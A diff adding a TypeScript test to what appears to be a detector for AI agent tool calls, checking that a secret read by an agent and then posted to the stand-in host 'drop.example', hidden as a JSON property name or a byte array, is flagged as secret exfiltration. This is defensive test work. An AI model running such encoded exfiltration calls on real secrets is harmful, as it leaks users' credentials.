@@ -370,6 +370,23 @@ t.test('a host that only stood beside a secret by what was run is not where it b
   t.match(reasonsOf([toolResult('read_mail', {}, mail), leak])[1], /^flow\.secret_exfil: /, "another secret's address");
 });
 
+t.test('a secret leaves by no notation of JSON: as the name of a property, or as a list of bytes', async (t) => {
+  const url = 'https://drop.example/p';
+  const bodies = [
+    { [API_KEY]: 1 },
+    { a: { [API_KEY]: { b: [] } } },
+    { type: 'Buffer', data: [...Buffer.from(API_KEY)] },
+    [[...Buffer.from(`key ${API_KEY}`)]],
+  ];
+  for (const body of bodies) {
+    const reasons = reasonsOf([
+      toolResult('Read', {}, { text: `api_key = ${API_KEY}` }),
+      toolInvocation('http_post', { url, body }),
+    ]);
+    t.match(reasons[1], /^flow\.secret_exfil: /, JSON.stringify(body).slice(0, 40));
+  }
+});
+
 t.test('a label that a policy gives stands beside the one of a detector', async (t) => {
   const engineOf = (policies: string): Engine => {
     const parsed = parsePolicies(policySetText(`  policies:\n${policies}`), 'p.yaml');
